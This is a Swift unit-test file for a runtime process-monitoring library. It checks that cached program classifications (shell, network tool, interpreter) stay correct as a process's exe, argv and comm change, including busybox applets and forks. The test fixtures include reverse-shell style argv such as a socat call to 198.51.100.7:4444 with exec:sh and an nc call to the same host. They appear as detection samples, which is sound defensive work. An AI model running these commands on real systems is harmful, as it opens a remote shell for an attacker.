// SPDX-License-Identifier: Apache-2.0
// What a process runs is worked out once per image and kept (`ProcessInfo.program`). These hold the
// kept answer to the one worked out from the fields: after every change of exe, argv and comm, in a
// copy that shares its image and after the copy diverges, and for a fork that has not exec'd.

import XCTest
@testable import RuntimeWatchCore

private typealias ProcessInfo = RuntimeWatchCore.ProcessInfo

final class ProgramIdentityCacheTests: XCTestCase {
    /// What `ProgramClassifier.name(of:)` answered before the answer was kept with the image.
    private func referenceName(_ info: ProcessInfo) -> String? {
        if info.source == "inherited", let comm = info.comm, !comm.isEmpty, comm != "exe", comm != "busybox", comm != "toybox" { return comm }
        return ProgramClassifier.effectiveName(exe: info.exe, argv: info.argv, comm: info.comm)
    }

    private func assertClassifiedFromFields(_ info: ProcessInfo, _ label: String, file: StaticString = #filePath, line: UInt = #line) {
        let name = referenceName(info)
        XCTAssertEqual(ProgramClassifier.name(of: info), name, label, file: file, line: line)
        XCTAssertEqual(ProgramClassifier.kind(of: info), name.map(ProgramClassifier.kind(ofName:)) ?? .other, label, file: file, line: line)
    }

    func testAnswerFollowsEveryChangeOfExeArgvAndComm() {
        var info = ProcessInfo(pid: ProcessID(10), comm: "bash", exe: "/usr/bin/bash", argv: ["bash"])
        assertClassifiedFromFields(info, "bash")
        XCTAssertEqual(ProgramClassifier.kind(of: info), .shell)
        info.exe = "/usr/bin/curl"
        assertClassifiedFromFields(info, "exe changed")
        XCTAssertEqual(ProgramClassifier.kind(of: info), .networkTool)
        info.exe = "/bin/busybox"
        info.argv = ["nc", "198.51.100.7", "4444"]
        assertClassifiedFromFields(info, "busybox applet named by argv[0]")
        XCTAssertEqual(ProgramClassifier.name(of: info), "nc")
        info.argv = ["busybox", "sh"]
        assertClassifiedFromFields(info, "busybox applet named by argv[1]")
        XCTAssertEqual(ProgramClassifier.kind(of: info), .shell)
        info.exe = nil
        info.argv = nil
        info.comm = "python3"
        assertClassifiedFromFields(info, "only comm")
        XCTAssertEqual(ProgramClassifier.kind(of: info), .interpreter)
        info.comm = nil
        assertClassifiedFromFields(info, "nothing known")
        XCTAssertEqual(ProgramClassifier.kind(of: info), .other)
    }

    func testCopiesSharingAnImageDivergeWhenOneChanges() {
        let parent = ProcessInfo(pid: ProcessID(20), comm: "sh", exe: "/bin/sh", argv: ["sh", "-i"])
        XCTAssertEqual(ProgramClassifier.kind(of: parent), .shell)   // kept in the shared image
        var child = parent
        child.pid = ProcessID(21)
        XCTAssertTrue(child.sharesImage(with: parent))
        XCTAssertEqual(ProgramClassifier.kind(of: child), .shell)
        child.exe = "/usr/bin/socat"
        child.argv = ["socat", "tcp:198.51.100.7:4444", "exec:sh"]
        XCTAssertEqual(ProgramClassifier.kind(of: child), .networkTool)
        XCTAssertEqual(ProgramClassifier.kind(of: parent), .shell, "the parent's kept answer is not the child's")
        assertClassifiedFromFields(parent, "parent")
        assertClassifiedFromFields(child, "child")
    }

    func testAForkThatHasNotExecdIsNamedByItsComm() {
        // busybox sh runs `cat` in the fork without exec: exe and argv are still the shell's.
        var fork = ProcessInfo(pid: ProcessID(30), comm: "cat", exe: "/bin/busybox", argv: ["sh"], source: "inherited")
        XCTAssertEqual(ProgramClassifier.name(of: fork), "cat")
        XCTAssertEqual(ProgramClassifier.kind(of: fork), .copyOrEncodeTool)
        // The same image read as an exec'd process is the shell its argv names.
        fork.source = "proc"
        XCTAssertEqual(ProgramClassifier.name(of: fork), "sh")
        XCTAssertEqual(ProgramClassifier.kind(of: fork), .shell)
        // comm that only names the binary file does not decide.
        for comm in ["exe", "busybox", "toybox", ""] {
            let info = ProcessInfo(pid: ProcessID(31), comm: comm, exe: "/bin/busybox", argv: ["sh"], source: "inherited")
            XCTAssertEqual(ProgramClassifier.kind(of: info), .shell, "comm \(comm.debugDescription)")
            assertClassifiedFromFields(info, "comm \(comm.debugDescription)")
        }
        // comm differs from the exec'd name: its own kind, not the image's.
        let renamed = ProcessInfo(pid: ProcessID(32), comm: "nc", exe: "/usr/bin/bash", argv: ["bash"], source: "inherited")
        XCTAssertEqual(ProgramClassifier.kind(of: renamed), .networkTool)
        assertClassifiedFromFields(renamed, "renamed fork")
    }
}
